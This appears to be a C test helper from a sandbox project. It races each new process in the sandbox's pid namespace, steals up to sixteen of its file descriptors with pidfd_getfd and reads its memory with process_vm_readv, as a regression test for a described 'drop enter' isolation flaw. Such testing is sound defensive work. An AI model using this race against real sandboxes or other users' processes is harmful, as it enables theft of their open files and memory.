/* pid-racer.c: test helper run inside the sandbox: attacks each new process of its pid namespace as soon as it exists. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/*
 * Usage:
 *   pid-racer self
 *     control: attack a dumpable child of our own; prints
 *     "pidfd_getfd ok|errno=E" and "process_vm_readv ok|errno=E".
 *   pid-racer race SECONDS STOPFILE
 *     prints "racing" once it watches, then spins on pidfd_open of the
 *     next pid of this pid namespace; from the moment a new process exists
 *     until it has exited, tries again and again to take its fds 0-15
 *     (pidfd_getfd) and to read the start of its first mapping
 *     (process_vm_readv). Stops after SECONDS or once STOPFILE exists;
 *     prints one line per success and then "seen=N getfd=G readv=R"
 *     (N: processes caught alive, G and R: processes attacked with
 *     success).
 *
 * This is the attack on "drop enter" (issue 11): its program's process
 * appears in the sandbox's pid namespace before it execs the command.
 */

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

struct tally {
	unsigned seen, getfd, readv;
};

static int pidfd_open(pid_t pid)
{
	return (int)syscall(SYS_pidfd_open, pid, 0);
}

static const char *fd_kind(int fd)
{
	struct stat st;

	if (fstat(fd, &st) < 0)
		return "?";
	return S_ISSOCK(st.st_mode) ? "socket" : S_ISFIFO(st.st_mode) ? "pipe" : S_ISCHR(st.st_mode) ? "chr" : "file";
}

/* Steal what can be stolen: 0 when the kernel refused every fd. */
static int try_getfd(int pidfd, pid_t pid, int quiet)
{
	int got_any = 0;

	for (int fd = 0; fd < 16; fd++) {
		int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (got < 0) {
			if (errno == EBADF)
				continue;
			return got_any ? 1 : -errno;
		}
		if (!quiet)
			printf("pidfd_getfd took fd %d (%s) of pid %d\n", fd, fd_kind(got), (int)pid);
		close(got);
		got_any = 1;
	}
	return got_any ? 1 : -EBADF;
}

/* Read 4 bytes at the start of PID's first mapping: 1 on success, else -errno. */
static int try_readv(pid_t pid, int quiet)
{
	char path[64], line[256];
	uintptr_t start;
	char buf[4];
	struct iovec local = { buf, sizeof(buf) }, remote;
	FILE *f;
	int n;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
	f = fopen(path, "re");
	if (!f)
		return -errno;
	n = fgets(line, sizeof(line), f) && sscanf(line, "%" SCNxPTR "-", &start) == 1;
	fclose(f);
	if (!n)
		return -EACCES; /* unreadable maps: ptrace access refused */
	remote = (struct iovec){ (void *)start, sizeof(buf) };
	if (process_vm_readv(pid, &local, 1, &remote, 1, 0) != (ssize_t)sizeof(buf))
		return -errno;
	if (!quiet)
		printf("process_vm_readv read pid %d at %#lx: %s", (int)pid, (unsigned long)start, line);
	return 1;
}

static void report(const char *name, int rc)
{
	if (rc > 0)
		printf("%s ok\n", name);
	else
		printf("%s errno=%s\n", name, strerrorname_np(-rc) ? strerrorname_np(-rc) : "?");
}

/* The control: a dumpable process of our own, which the same calls may touch. */
static int self_test(void)
{
	int ready[2];
	pid_t child;
	int pidfd;
	char c;

	if (pipe(ready) < 0)
		return 1;
	child = fork();
	if (child == 0) {
		close(ready[0]);
		if (write(ready[1], "x", 1) != 1)
			_exit(1);
		pause();
		_exit(0);
	}
	close(ready[1]);
	if (child < 0 || read(ready[0], &c, 1) != 1)
		return 1;
	pidfd = pidfd_open(child);
	if (pidfd < 0)
		return 1;
	report("pidfd_getfd", try_getfd(pidfd, child, 1));
	report("process_vm_readv", try_readv(child, 1));
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	close(pidfd);
	return 0;
}

static int exited(int pidfd)
{
	struct pollfd pfd = { .fd = pidfd, .events = POLLIN };

	return poll(&pfd, 1, 0) != 0;
}

/* Attack PID until both attacks have worked or it has exited; each counts once per target. */
static void attack(struct tally *t, int pidfd, pid_t pid)
{
	int g = 0, r = 0;

	while (!(g && r) && !exited(pidfd)) {
		g = g || try_getfd(pidfd, pid, g) > 0;
		r = r || try_readv(pid, r) > 0;
	}
	t->getfd += g;
	t->readv += r;
}

static long last_pid(int fd)
{
	char buf[32];
	ssize_t n = pread(fd, buf, sizeof(buf) - 1, 0);

	if (n <= 0)
		return -1;
	buf[n] = '\0';
	return strtol(buf, NULL, 10);
}

static int race(long seconds, const char *stopfile)
{
	struct tally t = { 0 };
	time_t end = time(NULL) + seconds;
	int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
	long next;

	if (lp < 0 || (next = last_pid(lp)) < 0) {
		perror("pid-racer: /proc/sys/kernel/ns_last_pid");
		return 1;
	}
	next++;
	printf("racing\n");
	for (unsigned long i = 0;; i++) {
		int pidfd = pidfd_open((pid_t)next);

		if (pidfd >= 0) {
			t.seen++;
			attack(&t, pidfd, (pid_t)next);
			close(pidfd);
			next++;
			continue;
		}
		/* Allocated: being set up (a pidfd needs it attached), or gone already. */
		if (last_pid(lp) >= next) {
			for (int tries = 0; tries < 4000 && (pidfd = pidfd_open((pid_t)next)) < 0; tries++)
				;
			if (pidfd >= 0) {
				t.seen++;
				attack(&t, pidfd, (pid_t)next);
				close(pidfd);
			}
			next++;
		}
		if (i % 1024 == 0 && (time(NULL) >= end || access(stopfile, F_OK) == 0))
			break;
	}
	printf("seen=%u getfd=%u readv=%u\n", t.seen, t.getfd, t.readv);
	close(lp);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 2 && !strcmp(argv[1], "self"))
		return self_test();
	if (argc == 4 && !strcmp(argv[1], "race"))
		return race(strtol(argv[2], NULL, 10), argv[3]);
	fprintf(stderr, "usage: pid-racer self | pid-racer race SECONDS STOPFILE\n");
	return 2;
}
